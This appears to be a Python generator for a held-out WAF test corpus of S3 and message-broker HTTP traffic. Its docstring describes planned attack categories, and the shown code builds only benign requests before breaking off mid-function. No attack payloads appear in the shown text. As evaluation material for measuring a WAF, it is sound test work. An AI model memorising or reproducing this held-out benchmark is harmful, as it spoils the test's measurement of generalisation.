#!/usr/bin/env python3
"""Held-out request corpus: object storage and messaging services in Kubernetes.

What it models
--------------
The HTTP traffic a sidecar WAF sees in front of storage and messaging services
running in a Kubernetes cluster:

* S3-compatible object storage (MinIO, Ceph RGW, SeaweedFS, Garage): SigV4-signed
  requests from aws-sdk-go-v2, boto3, aws-cli, minio-go, mc, rclone, restic,
  kopia and velero; presigned URLs; ListObjectsV2; GET/HEAD/PUT/DELETE of objects
  with realistic keys (unicode, spaces, parentheses, plus signs, deep prefixes);
  aws-chunked streaming uploads; multipart uploads; DeleteObjects; bucket
  policy / lifecycle / CORS / tagging / versioning / notification / replication
  documents; CopyObject; S3 Select; the MinIO admin API and console.
* Message brokers and event streaming HTTP APIs: Kafka REST Proxy v2/v3 and the
  Confluent schema registry, the RabbitMQ management API (queues, exchanges,
  bindings, publish, policies, shovels, federation), NATS monitoring and an HTTP
  publish bridge, the Apache Pulsar admin and REST produce APIs, CloudEvents over
  HTTP (Knative broker ingress, binary and structured modes), Dapr pub/sub, state,
  bindings and state query, Elasticsearch snapshot repositories on S3.

Files written
-------------
  rulesets/tests/data/storage-benign.jsonl   expect "pass"
      category "benign"       ordinary traffic (about 450 requests)
      category "dev-content"  exactly 50 legitimate but code-heavy requests
                              (shell scripts, SQL dumps, HTML templates, configs
                              stored as objects; messages carrying code snippets);
                              ids contain "/dev-content/"
  rulesets/tests/data/storage-attacks.jsonl  expect "detect"
      about 300 attacks in categories sqli, xss, lfi, rfi, rce, php, java, ssrf,
      xxe, ssti, nosqli, ldapi, crlf, protocol, scanner, generic, delivered through
      injection points these services really have (object keys and prefixes,
      notification / replication / shovel / snapshot / schema reference URLs,
      S3 XML documents, S3 Select wrappers, metadata headers, message payloads,
      Dapr state queries, admin LDAP lookups, response-* override parameters,
      Kafka record values, request framing).

This corpus was written BLIND: its author did not look at Palisade's rules, its
rule tests, the proxy, or the other corpus generators, and did not run the WAF
against it. It measures how well the WAF generalises to traffic it was never
tuned on. Do NOT tune rules against it and do NOT edit it to make the WAF pass;
if a request here is mislabelled, fix the label with a note, not the rules.

Record shape
------------
One JSON object per line, as described in /work/shared/corpora/README.md:
  {"id": "storage/<category>/<name>-NNN", "set": "storage", "category": ...,
   "expect": "pass"|"detect", "method": ..., "uri": ..., "version": "HTTP/1.1",
   "headers": [[name, value], ...], "body": "..."}      (body optional)
or, for framing attacks that need exact bytes,
  {"id": ..., "set": "storage", "category": "protocol", "expect": "detect",
   "raw_b64": "<base64 of the complete raw request>"}
Requests with a body carry a Content-Length header equal to the UTF-8 byte length
of the body (unless the test is about framing, in which case raw_b64 is used).

How to run
----------
  python3 scripts/corpus-storage.py          (from the repository root, or anywhere)
Standard library only; deterministic (random.Random with a fixed seed), so
re-running reproduces byte-identical files.
"""

import base64
import hashlib
import json
import os
import random
import re
import sys
import urllib.parse
from collections import Counter, OrderedDict

SEED = 0x5709A6E
R = random.Random(SEED)

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(HERE)
OUT_DIR = os.path.join(ROOT, "rulesets", "tests", "data")
BENIGN_FILE = os.path.join(OUT_DIR, "storage-benign.jsonl")
ATTACK_FILE = os.path.join(OUT_DIR, "storage-attacks.jsonl")

BENIGN = []
ATTACKS = []
_COUNTERS = Counter()
_SEEN_IDS = set()


# ---------------------------------------------------------------------------
# generic helpers
# ---------------------------------------------------------------------------

def pick(seq):
    return seq[R.randrange(len(seq))]


def hexs(n):
    return "".join(pick("0123456789abcdef") for _ in range(n))


def uuid4():
    h = hexs(32)
    return "%s-%s-4%s-%s%s-%s" % (h[:8], h[8:12], h[13:16], pick("89ab"), h[17:20], h[20:32])


def b64(s):
    if isinstance(s, str):
        s = s.encode("utf-8")
    return base64.b64encode(s).decode("ascii")


def sha256hex(s):
    if isinstance(s, str):
        s = s.encode("utf-8")
    return hashlib.sha256(s).hexdigest()


def md5b64(s):
    if isinstance(s, str):
        s = s.encode("utf-8")
    return base64.b64encode(hashlib.md5(s).digest()).decode("ascii")


def q(s, safe="-_.~"):
    """Percent-encode like a SigV4 client encodes a query value."""
    return urllib.parse.quote(s, safe=safe)


def qkey(key):
    """Percent-encode an object key like S3 SDKs do for the path ('/' kept)."""
    return urllib.parse.quote(key, safe="/-_.~")


def qs(pairs):
    return "&".join("%s=%s" % (q(k), q(v)) if v is not None else q(k) for k, v in pairs)


def jdump(obj, pretty=False):
    if pretty:
        return json.dumps(obj, indent=2, ensure_ascii=False)
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)


def xesc(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def amz_date():
    day = R.randint(1, 28)
    month = R.choice([3, 4, 5, 6])
    return "2024%02d%02dT%02d%02d%02dZ" % (month, day, R.randint(0, 23), R.randint(0, 59), R.randint(0, 59))


def http_date():
    days = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"]
    return "%s, %02d May 2024 %02d:%02d:%02d GMT" % (pick(days), R.randint(1, 28), R.randint(0, 23),
                                                     R.randint(0, 59), R.randint(0, 59))


def iso_time():
    return "2024-05-%02dT%02d:%02d:%02d.%03dZ" % (R.randint(1, 28), R.randint(0, 23), R.randint(0, 59),
                                                R.randint(0, 59), R.randint(0, 999))


def add(kind, category, name, method, uri, headers, body=None):
    """Append one record. kind is 'pass' or 'detect'."""
    _COUNTERS[(category, name)] += 1
    rid = "storage/%s/%s-%03d" % (category, name, _COUNTERS[(category, name)])
    assert rid not in _SEEN_IDS, rid
    _SEEN_IDS.add(rid)
    hdrs = [list(h) for h in headers]
    if body is not None:
        blen = str(len(body.encode("utf-8")))
        found = False
        for h in hdrs:
            if h[0].lower() == "content-length":
                h[1] = blen
                found = True
        if not found:
            hdrs.append(["Content-Length", blen])
    rec = OrderedDict()
    rec["id"] = rid
    rec["set"] = "storage"
    rec["category"] = category
    rec["expect"] = kind
    rec["method"] = method
    rec["uri"] = uri
    rec["version"] = "HTTP/1.1"
    rec["headers"] = hdrs
    if body is not None:
        rec["body"] = body
    (BENIGN if kind == "pass" else ATTACKS).append(rec)
    return rec


def add_raw(category, name, raw_bytes):
    _COUNTERS[(category, name)] += 1
    rid = "storage/%s/%s-%03d" % (category, name, _COUNTERS[(category, name)])
    assert rid not in _SEEN_IDS, rid
    _SEEN_IDS.add(rid)
    rec = OrderedDict()
    rec["id"] = rid
    rec["set"] = "storage"
    rec["category"] = category
    rec["expect"] = "detect"
    rec["raw_b64"] = base64.b64encode(raw_bytes).decode("ascii")
    ATTACKS.append(rec)


def benign(name, method, uri, headers, body=None):
    return add("pass", "benign", name, method, uri, headers, body)


def devc(name, method, uri, headers, body=None):
    return add("pass", "dev-content", name, method, uri, headers, body)


def attack(category, name, method, uri, headers, body=None):
    return add("detect", category, name, method, uri, headers, body)


# ---------------------------------------------------------------------------
# hosts, credentials, client profiles
# ---------------------------------------------------------------------------

S3_HOSTS = [
    "minio.storage.svc.cluster.local:9000",
    "minio.minio.svc:9000",
    "minio-tenant-hl.minio-tenant.svc.cluster.local:9000",
    "s3.corp.example.net",
    "rook-ceph-rgw-objectstore.rook-ceph.svc:80",
    "rgw.ceph.internal.example.net",
    "seaweedfs-s3.seaweedfs.svc.cluster.local:8333",
    "garage.storage.svc.cluster.local:3900",
    "objects.eu-central.example.net",
]
REGIONS = ["us-east-1", "us-east-1", "eu-central-1", "garage", "default", "us-west-2"]
ACCESS_KEYS = ["AKIAIOSFODNN7EXAMPLE", "minioadmin", "AKIA4Q2VXE7JZ3NB6KPL", "GK31c2f218a2e44f485b94239e",
               "velero-backup", "0555b35654ad1656d804", "restic-prod-sa", "loki-chunks-writer",
               "M8Z2KQ1W7Y3XJ0PLNB4R"]

BUCKETS = ["backups", "loki-chunks", "thanos-blocks", "velero", "es-snapshots", "media-uploads", "data-lake",
           "ml-artifacts", "tempo-traces", "gitlab-artifacts", "harbor-registry", "customer-exports",
           "invoices-2024", "static-assets", "restic-repo", "kopia-repo", "mimir-blocks", "airflow-logs",
           "cnpg-wal", "analytics-raw"]

UA_GO_V2 = ["aws-sdk-go-v2/1.26.1 os/linux lang/go#1.22.2 md/GOOS#linux md/GOARCH#amd64 api/s3#1.53.1",
            "aws-sdk-go-v2/1.24.0 os/linux lang/go#1.21.5 md/GOOS#linux md/GOARCH#arm64 api/s3#1.47.5 ft/s3-transfer",
            "aws-sdk-go-v2/1.30.3 ua/2.0 os/linux lang/go#1.22.5 md/GOOS#linux md/GOARCH#amd64 api/s3#1.58.2 m/E,Z"]
UA_BOTO3 = ["Boto3/1.34.84 md/Botocore#1.34.84 ua/2.0 os/linux#5.15.0-1057-aws md/arch#x86_64 lang/python#3.11.9 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.84",
            "Boto3/1.28.57 Python/3.10.12 Linux/6.1.0-18-amd64 Botocore/1.31.57",
            "Boto3/1.34.100 md/Botocore#1.34.100 ua/2.0 os/linux#6.5.0-1020-gcp md/arch#x86_64 lang/python#3.12.3 md/pyimpl#CPython cfg/retry-mode#standard Botocore/1.34.100 Resource"]
UA_CLI = ["aws-cli/2.15.40 md/awscrt#0.19.19 ua/2.0 os/linux#6.5.0-28-generic md/arch#x86_64 lang/python#3.11.8 md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe md/distrib#ubuntu.22 md/prompt#off md/command#s3.cp",
          "aws-cli/2.13.25 Python/3.11.5 Linux/5.15.0-86-generic exe/x86_64.ubuntu.22 prompt/off command/s3api.list-objects-v2"]
UA_MINIO_GO = ["MinIO (linux; amd64) minio-go/v7.0.70", "MinIO (linux; arm64) minio-go/v7.0.66",
               "MinIO (linux; amd64) minio-go/v7.0.63 thanos-store/0.34.1"]
UA_MC = ["MinIO (linux; amd64) minio-go/v7.0.70 mc/RELEASE.2024-05-09T17-04-24Z",
         "MinIO (darwin; arm64) minio-go/v7.0.67 mc/RELEASE.2024-03-13T23-51-57Z"]
UA_RCLONE = ["rclone/v1.66.0", "rclone/v1.65.2"]
UA_RESTIC = ["MinIO (linux; amd64) minio-go/v7.0.66 restic/0.16.4"]
UA_KOPIA = ["MinIO (linux; amd64) minio-go/v7.0.69 kopia/v0.16.1"]
UA_VELERO = ["aws-sdk-go/1.50.21 (go1.22.1; linux; amd64) velero-plugin-for-aws/v1.9.1"]
UA_BROWSER = [
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:126.0) Gecko/20100101 Firefox/126.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
]
UA_HTTP = ["python-requests/2.31.0", "okhttp/4.12.0", "curl/8.5.0", "Go-http-client/1.1", "axios/1.6.8",
           "Java-http-client/17.0.10", "Apache-HttpClient/4.5.14 (Java/17.0.10)", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
           "Vert.x-WebClient/4.5.7", "confluent-kafka-rest-client/7.6.1"]


def sigv4_auth(host, region=None, signed=None, key=None, date=None):
    region = region or pick(REGIONS)
    key = key or pick(ACCESS_KEYS)
    date = date or amz_date()
    signed = signed or "host;x-amz-content-sha256;x-amz-date"
    return ("AWS4-HMAC-SHA256 Credential=%s/%s/%s/s3/aws4_request, SignedHeaders=%s, Signature=%s"
            % (key, date[:8], region, signed, hexs(64))), date


def s3_headers(client=None, host=None, body=None, ctype=None, extra=None, unsigned=False):
    """Headers a given S3 client sends, in that client's order."""
    client = client or pick(["gov2", "boto3", "cli", "minio", "mc", "rclone", "gov2", "minio", "boto3"])
    host = host or pick(S3_HOSTS)
    extra = list(extra or [])
    payload_hash = "UNSIGNED-PAYLOAD" if unsigned else sha256hex(body if body is not None else "")
    extra_names = sorted(set([h[0].lower() for h in extra if h[0].lower().startswith("x-amz-")] +
                             (["content-md5"] if any(h[0].lower() == "content-md5" for h in extra) else [])))
    signed_list = ["host", "x-amz-content-sha256", "x-amz-date"] + [n for n in extra_names
                                                                    if n not in ("x-amz-content-sha256", "x-amz-date")]
    if ctype:
        signed_list.append("content-type")
    if client in ("gov2",):
        signed_list.append("amz-sdk-invocation-id")
        signed_list.append("amz-sdk-request")
    if client == "boto3" and body is not None:
        signed_list.append("content-md5") if any(h[0].lower() == "content-md5" for h in extra) else None
    signed = ";".join(sorted(set(signed_list)))
    auth, date = sigv4_auth(host, signed=signed)
    h = []
    if client == "gov2":
        ua = pick(UA_GO_V2)
        h = [["Host", host], ["User-Agent", ua], ["Accept-Encoding", "identity"],
             ["Amz-Sdk-Invocation-Id", uuid4()], ["Amz-Sdk-Request", "attempt=1; max=3"],
             ["Authorization", auth]]
        if ctype:
            h.append(["Content-Type", ctype])
        h += [["X-Amz-Content-Sha256", payload_hash], ["X-Amz-Date", date]]
        h += extra
    elif client in ("boto3", "cli"):
        ua = pick(UA_BOTO3 if client == "boto3" else UA_CLI)
        h = [["Host", host], ["Accept-Encoding", "identity"], ["User-Agent", ua]]
        if ctype:
            h.append(["Content-Type", ctype])
        h += extra
        h += [["X-Amz-Date", date], ["X-Amz-Content-SHA256", payload_hash], ["Authorization", auth],
              ["amz-sdk-invocation-id", uuid4()], ["amz-sdk-request", "attempt=1"]]
    elif client in ("minio", "mc", "restic", "kopia"):
        ua = pick({"minio": UA_MINIO_GO, "mc": UA_MC, "restic": UA_RESTIC, "kopia": UA_KOPIA}[client])
        h = [["Host", host], ["User-Agent", ua], ["Authorization", auth]]
        if ctype:
            h.append(["Content-Type", ctype])
        h += extra
        h += [["X-Amz-Content-Sha256", payload_hash], ["X-Amz-Date", date], ["Accept-Encoding", "gzip"]]
    elif client == "rclone":
        h = [["Host", host], ["User-Agent", pick(UA_RCLONE)], ["Authorization", auth]]
        if ctype:
            h.append(["Content-Type", ctype])
        h += extra
        h += [["X-Amz-Content-Sha256", payload_hash], ["X-Amz-Date", date], ["Accept-Encoding", "gzip"]]
    elif client == "velero":
        h = [["Host", host], ["User-Agent", pick(UA_VELERO)], ["Authorization", auth]]
        if ctype:
            h.append(["Content-Type", ctype])
        h += extra
        h += [["X-Amz-Content-Sha256", payload_hash], ["X-Amz-Date", date], ["Accept-Encoding", "gzip"]]
    else:
        raise ValueError(client)
    return h


def browser_headers(host, referer_path="/browser", json_body=False, cookie=None, accept=None, origin=True,
                    ctype=None):
    ua = pick(UA_BROWSER)
    h = [["Host", host], ["User-Agent", ua],
         ["Accept", accept or ("application/json, text/plain, */*" if json_body else
                               "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8")],
         ["Accept-Language", pick(["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "en-GB,en;q=0.7", "fr-FR,fr;q=0.9,en-US;q=0.6"])],
         ["Accept-Encoding", "gzip, deflate, br"]]
    if "Chrome" in ua:
        h.append(["sec-ch-ua", '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"'])
        h.append(["sec-ch-ua-mobile", "?0"])
        h.append(["sec-ch-ua-platform", pick(['"Linux"', '"macOS"', '"Windows"'])])
    if ctype:
        h.append(["Content-Type", ctype])
    if origin and json_body:
        h.append(["Origin", "https://" + host.split(":")[0]])
    h.append(["Referer", "https://%s%s" % (host.split(":")[0], referer_path)])
    h.append(["Cookie", cookie or ("token=%s" % b64(hexs(48))[:64])])
    h += [["Sec-Fetch-Dest", "empty" if json_body else "document"],
          ["Sec-Fetch-Mode", "cors" if json_body else "navigate"],
          ["Sec-Fetch-Site", "same-origin"]]
    return h


def api_headers(host, ctype=None, accept="application/json", auth=None, ua=None, extra=None):
    h = [["Host", host], ["User-Agent", ua or pick(UA_HTTP)], ["Accept", accept]]
    if ctype:
        h.append(["Content-Type", ctype])
    if auth:
        h.append(["Authorization", auth])
    h += list(extra or [])
    return h


def basic(user, pw):
    return "Basic " + b64("%s:%s" % (user, pw))


def bearer():
    # JWT-looking service account token
    hdr = b64(jdump({"alg": "RS256", "kid": hexs(16)})).rstrip("=").replace("+", "-").replace("/", "_")
    pl = b64(jdump({"iss": "https://kubernetes.default.svc.cluster.local",
                    "sub": "system:serviceaccount:%s:%s" % (pick(["payments", "orders", "etl", "ingest"]),
                                                            pick(["default", "producer", "worker"])),
                    "exp": 1716000000 + R.randint(0, 99999)})).rstrip("=").replace("+", "-").replace("/", "_")
    return "Bearer %s.%s.%s" % (hdr, pl, b64(hexs(86)).rstrip("=").replace("+", "-").replace("/", "_")[:86])


# ---------------------------------------------------------------------------
# benign content pools
# ---------------------------------------------------------------------------

FIRST = ["alice", "bob", "chen.wei", "dmitri", "eva", "fatima", "giulia", "hiro", "ines", "jamal", "katarzyna",
         "liam", "maria-jose", "nguyen", "olu", "priya", "renée", "sven", "tomás", "zoë"]
WORDS = ["invoice", "report", "summary", "export", "dump", "snapshot", "thumbnail", "avatar", "contract", "scan",
         "notes", "draft", "final", "backup", "manifest", "index", "metrics", "events", "orders", "customers"]


def ulid():
    return "01HX" + "".join(pick("0123456789ABCDEFGHJKMNPQRSTVWXYZ") for _ in range(22))


def rand_key():
    kind = R.randrange(22)
    y, m, d = 2024, R.randint(1, 6), R.randint(1, 28)
    if kind == 0:
        return "logs/%d/%02d/%02d/%s-%s-%s.log.gz" % (y, m, d, pick(["ingest", "api", "worker", "gateway"]),
                                                      hexs(10), hexs(5))
    if kind == 1:
        return "finance/%s/Quarterly Report (Q%d %d) - %s+v%d.pdf" % (pick(["EMEA", "APAC", "NA"]), R.randint(1, 4), y,
                                                                      pick(["final", "draft", "reviewed"]), R.randint(2, 5))
    if kind == 2:
        return pick(["fotos/Urlaub München 2023/IMG_%04d.JPG", "文档/会议记录 2024-05-%02d.docx",
                     "résumés/Zoë O'Brien (%d).pdf", "写真/東京/スカイツリー_%04d.heic",
                     "документы/отчёт за май %d.xlsx", "música/Café Tacvba - %d.flac",
                     "uploads/😀 party pics/%04d.png"]).replace("%04d", "%04d" % R.randint(1, 9999)).replace(
            "%02d", "%02d" % R.randint(1, 28)).replace("%d", str(R.randint(1, 12)))
    if kind == 3:
        return "warehouse/events/year=%d/month=%02d/day=%02d/part-%05d-%s.c000.snappy.parquet" % (
            y, m, d, R.randint(0, 199), uuid4())
    if kind == 4:
        return "fake/%s/%s:%s:%s:%s" % (hexs(16), hexs(16), "18f%s" % hexs(9), "18f%s" % hexs(9), hexs(8))
    if kind == 5:
        return "%s/%s" % (ulid(), pick(["meta.json", "index", "chunks/%06d" % R.randint(1, 40), "deletion-mark.json",
                                       "no-compact-mark.json"]))
    if kind == 6:
        dg = hexs(64)
        return "docker/registry/v2/blobs/sha256/%s/%s/data" % (dg[:2], dg)
    if kind == 7:
        return "models/%s/v%d/%s" % (pick(["bert-base-uncased", "resnet50", "xgb-churn", "llama-ft-support"]),
                                    R.randint(1, 9), pick(["model.safetensors", "config.json", "tokenizer.json",
                                                           "weights.onnx", "checkpoint-%d/optimizer.pt" % R.randint(100, 9000)]))
    if kind == 8:
        return "users/%s/%s_%s.%s" % (pick(FIRST), pick(WORDS), hexs(6), pick(["csv", "json", "xlsx", "txt", "md"]))
    if kind == 9:
        return "media/%d/%02d/%s-%dx%d.%s" % (y, m, uuid4(), pick([320, 640, 1280, 1920]), pick([240, 480, 720, 1080]),
                                            pick(["webp", "jpg", "avif", "png"]))
    if kind == 10:
        return "exports/customers (copy) [%d].csv" % R.randint(1, 9)
    if kind == 11:
        return "home/%s/%s" % (pick(FIRST), pick([".bashrc", ".gitignore", ".config/Code/User/settings.json",
                                                  ".local/share/fonts/FiraCode-Regular.ttf", "Documents/todo.txt",
                                                  ".vimrc", "Pictures/2024-05-%02d 10.%02d.%02d.png" % (d, R.randint(0, 59), R.randint(0, 59))]))
    if kind == 12:
        return "wal/%s/%s" % (pick(["pg-main", "cnpg-orders", "timescale"]), "0000000%d0000%03X000000%02X" % (
            R.randint(1, 3), R.randint(0, 0xFFF), R.randint(0, 0xFF)))
    if kind == 13:
        return "tempo/single-tenant/%s/%s" % (uuid4(), pick(["meta.json", "data.parquet", "bloom-0", "index"]))
    if kind == 14:
        return "ci/%s/%d/artifacts.zip" % (pick(["platform/api", "web/storefront", "infra/terraform-live"]),
                                           R.randint(100000, 999999))
    if kind == 15:
        return "shared/Team Drive/Design & Brand/Logo – final (1).svg"
    if kind == 16:
        return "archive/%s.tar.zst" % pick(["2024-05-%02d_full" % d, "etc-configs", "website+assets", "db-nightly"])
    if kind == 17:
        return "reports/a+b=c/%s.html" % pick(WORDS)
    if kind == 18:
        return "tenants/%s/uploads/%s/%s" % (uuid4(), hexs(8), pick(["scan 001.pdf", "IMG 2024.jpg", "résumé.docx",
                                                                    "notes (2).txt", "data 50%.csv"]))
    if kind == 19:
        return "backups/mysql/%s/%s.sql.gz" % ("2024-%02d-%02d" % (m, d), pick(["shop", "wordpress", "keycloak"]))
    if kind == 20:
        return "www/%s" % pick(["index.html", "assets/app.%s.js" % hexs(8), "assets/style.%s.css" % hexs(8),
                                "favicon.ico", "robots.txt", "sitemap.xml", "docs/v2.3/getting-started/index.html"])
    return "%s/%s/%s.%s" % (pick(["raw", "staging", "curated"]), pick(["crm", "erp", "clickstream"]),
                            "%s_%d%02d%02d" % (pick(WORDS), y, m, d), pick(["json.gz", "avro", "orc", "csv"]))


LOREM = [
    "Order shipped to warehouse B; ETA Friday.",
    "Customer said: \"the app crashes when I click <Save> twice\" — please check.",
    "Reminder: standup moved to 10:30 (Room 4 & Zoom).",
    "Price changed from $19.99 to $24.99 for SKU A-1000/B.",
    "Can we ship < 5 units per box? Current max is > 10.",
    "Thanks!! Works for me :) see ticket #4821",
    "Invoice 2024-0517 paid via SEPA, ref. \"Rechnung Mai\"",
    "Merci pour votre commande ! Livraison prévue le 21/05.",
    "Bitte prüfen: Lieferadresse enthält 'c/o Müller'.",
    "New comment on PR: LGTM, but select the right base branch & rebase.",
    "Temperature sensor #12 reported 41.5°C (threshold 40°C).",
    "User updated profile: bio = \"Engineer @ ACME | cat lover | he/him\"",
    "Refund requested — reason: item arrived damaged (box was wet).",
    "Meeting notes: 1) budget 2) hiring 3) Q3 roadmap; drop table tennis from the offsite list.",
    "注文番号 5821 を発送しました。",
    "Please update or delete the old records from last year's import.",
    "Ping @ops: disk on node-7 at 91%.",
    "FYI the union meeting is on Thursday, select a seat in the sheet.",
]


# ---------------------------------------------------------------------------
# benign: S3 object API
# ---------------------------------------------------------------------------

def s3_loc(bucket, key=None, host=None):
    """(host, path) with path-style or virtual-hosted addressing."""
    host = host or pick(S3_HOSTS)
    if host in ("s3.corp.example.net", "objects.eu-central.example.net") and R.random() < 0.6:
        vh = "%s.%s" % (bucket, host)
        return vh, "/" + (qkey(key) if key else "")
    return host, "/%s%s" % (bucket, ("/" + qkey(key)) if key else "")


CTYPES = {"csv": "text/csv", "json": "application/json", "txt": "text/plain; charset=utf-8", "md": "text/markdown",
          "html": "text/html", "xml": "application/xml", "yaml": "application/yaml", "log": "text/plain"}


def small_body(ext):
    if ext == "csv":
        rows = ["id,name,email,amount,note"]
        for i in range(R.randint(2, 6)):
            rows.append('%d,"%s","%s@example.com",%d.%02d,"%s"' % (
                R.randint(1000, 9999), pick(FIRST).title(), pick(FIRST).replace(" ", ""), R.randint(1, 900),
                R.randint(0, 99), pick(LOREM).replace('"', '""')))
        return "\n".join(rows) + "\n"
    if ext == "json":
        return jdump({"id": uuid4(), "createdAt": iso_time(), "owner": pick(FIRST),
                      "tags": [pick(WORDS), pick(WORDS)], "comment": pick(LOREM),
                      "size": R.randint(10, 10 ** 7)}, pretty=R.random() < 0.4)
    if ext == "md":
        return "# %s\n\n- [x] %s\n- [ ] %s\n\n> %s\n" % (pick(WORDS).title(), pick(LOREM), pick(LOREM), pick(LOREM))
    if ext == "log":
        lines = []
        for _ in range(R.randint(3, 7)):
            lines.append('%s level=%s msg="%s" path=/api/v1/%s status=%d dur=%dms' % (
                iso_time(), pick(["info", "warn", "debug"]), pick(LOREM).replace('"', "'"), pick(WORDS),
                pick([200, 201, 204, 304, 404]), R.randint(1, 900)))
        return "\n".join(lines) + "\n"
    return pick(LOREM) + "\n" + pick(LOREM) + "\n"


def benign_s3_get(n):
    for _ in range(n):
        bucket, key = pick(BUCKETS), rand_key()
        client = pick(["gov2", "boto3", "cli", "minio", "mc", "rclone"])
        host, path = s3_loc(bucket, key)
        extra = []
        params = []
        r = R.random()
        if r < 0.2:
            extra.append(["Range", "bytes=%d-%d" % (0, pick([1023, 65535, 8388607]))])
        elif r < 0.3:
            extra.append(["If-None-Match", '"%s"' % hexs(32)])
        elif r < 0.38:
            params.append(("versionId", pick([uuid4(), "3HL4kqtJlcpXroDTDmJ+rmSpXd3dIbrHY+MTRCxf3vjVBH40Nrjfkd"])))
        elif r < 0.46:
            fname = key.split("/")[-1]
            params.append(("response-content-disposition", 'attachment; filename="%s"' % (fname.encode("ascii", "ignore").decode().strip() or "download.bin")))
            params.append(("response-content-type", pick(["application/octet-stream", "application/pdf", "text/csv"])))
        elif r < 0.5:
            params.append(("partNumber", str(R.randint(1, 8))))
        hdrs = s3_headers(client, host, extra=extra)
        uri = path + ("?" + qs(params) if params else "")
        benign("s3-get-object", "GET", uri, hdrs)


def benign_s3_head(n):
    for _ in range(n):
        bucket, key = pick(BUCKETS), rand_key()
        host, path = s3_loc(bucket, key)
        benign("s3-head-object", "HEAD", path, s3_headers(pick(["gov2", "minio", "rclone", "boto3"]), host))


def benign_s3_put(n):
    for i in range(n):
        bucket = pick(BUCKETS)
        ext = pick(["csv", "json", "txt", "md", "log", "json", "csv"])
        key = "%s/%s-%s.%s" % (pick(["uploads", "exports/%s" % pick(FIRST), "incoming/2024-05-%02d" % R.randint(1, 28),
                                     "notes", "raw/events"]), pick(WORDS), hexs(6), ext)
        if R.random() < 0.25:
            key = rand_key().rsplit(".", 1)[0] + "." + ext
        body = small_body(ext)
        client = pick(["gov2", "boto3", "cli", "minio", "mc", "rclone"])
        host, path = s3_loc(bucket, key)
        extra = []
        if R.random() < 0.5:
            extra.append(["Content-MD5", md5b64(body)])
        if R.random() < 0.6:
            extra.append(["x-amz-meta-uploaded-by", pick(FIRST).encode("ascii", "ignore").decode() or "svc"])
        if R.random() < 0.3:
            extra.append(["x-amz-meta-original-filename", q(key.split("/")[-1])])
        if R.random() < 0.25:
            extra.append(["x-amz-meta-description", pick(["Monthly export for finance (EUR & USD)",
                                                          "scan of signed contract, page 1/3",
                                                          "generated by etl-job #5521",
                                                          "Q: why 3 rows? A: filtered by region=EU"])])
        if R.random() < 0.3:
            extra.append(["x-amz-tagging", "project=%s&classification=%s" % (pick(["atlas", "zephyr", "helios"]),
                                                                              pick(["internal", "public", "confidential"]))])
        if R.random() < 0.2:
            extra.append(["x-amz-storage-class", pick(["STANDARD", "STANDARD_IA", "REDUCED_REDUNDANCY"])])
        if R.random() < 0.2:
            extra.append(["Cache-Control", pick(["max-age=3600", "no-cache", "public, max-age=31536000, immutable"])])
        if R.random() < 0.15:
            extra.append(["x-amz-server-side-encryption", pick(["AES256", "aws:kms"])])
        if R.random() < 0.2 and client in ("minio", "mc") :
            # aws-chunked streaming upload as minio-go sends it
            data = body.encode("utf-8")
            sig1, sig2 = hexs(64), hexs(64)
            framed = "%x;chunk-signature=%s\r\n%s\r\n0;chunk-signature=%s\r\n\r\n" % (len(data), sig1, body, sig2)
            hdrs = s3_headers(client, host, body=framed, ctype=CTYPES[ext],
                              extra=extra + [["Content-Encoding", "aws-chunked"],
                                             ["X-Amz-Decoded-Content-Length", str(len(data))]])
            for h in hdrs:
                if h[0].lower() == "x-amz-content-sha256":
                    h[1] = "STREAMING-AWS4-HMAC-SHA256-PAYLOAD"
            benign("s3-put-object-streaming", "PUT", path, hdrs, framed)
            continue
        hdrs = s3_headers(client, host, body=body, ctype=CTYPES[ext], extra=extra)
        benign("s3-put-object", "PUT", path, hdrs, body)


def benign_s3_delete(n):
    for _ in range(n):
        bucket, key = pick(BUCKETS), rand_key()
        host, path = s3_loc(bucket, key)
        uri = path
        if R.random() < 0.3:
            uri += "?versionId=" + q(uuid4())
        benign("s3-delete-object", "DELETE", uri, s3_headers(pick(["gov2", "boto3", "mc", "rclone"]), host))


def benign_s3_list(n):
    for _ in range(n):
        bucket = pick(BUCKETS)
        host, path = s3_loc(bucket)
        r = R.random()
        client = pick(["gov2", "boto3", "cli", "minio", "mc", "rclone"])
        if r < 0.08:
            benign("s3-list-buckets", "GET", "/", s3_headers(client, pick(S3_HOSTS)))
            continue
        if r < 0.14:
            benign("s3-get-bucket-location", "GET", path + "?location=", s3_headers(client, host))
            continue
        if r < 0.22:
            params = [("versions", ""), ("prefix", pick(["", "logs/2024/", "models/"])), ("max-keys", "1000")]
            if R.random() < 0.5:
                params.append(("key-marker", rand_key()))
            benign("s3-list-object-versions", "GET", path + "?" + "&".join(
                "%s=%s" % (k, q(v)) for k, v in params), s3_headers(client, host))
            continue
        if r < 0.27:
            benign("s3-list-multipart-uploads", "GET", path + "?uploads=&max-uploads=1000", s3_headers(client, host))
            continue
        params = [("list-type", "2")]
        prefix = pick(["", "logs/%d/%02d/%02d/" % (2024, R.randint(1, 6), R.randint(1, 28)), "fake/", "users/%s/" % pick(FIRST),
                       "warehouse/events/year=2024/month=05/", "fotos/Urlaub München 2023/", "exports/customers (copy)",
                       "tenants/%s/uploads/" % uuid4(), "docker/registry/v2/repositories/library/", "a+b/", "01HX",
                       "shared/Team Drive/Design & Brand/", "home/%s/.config/" % pick(FIRST)])
        if R.random() < 0.7:
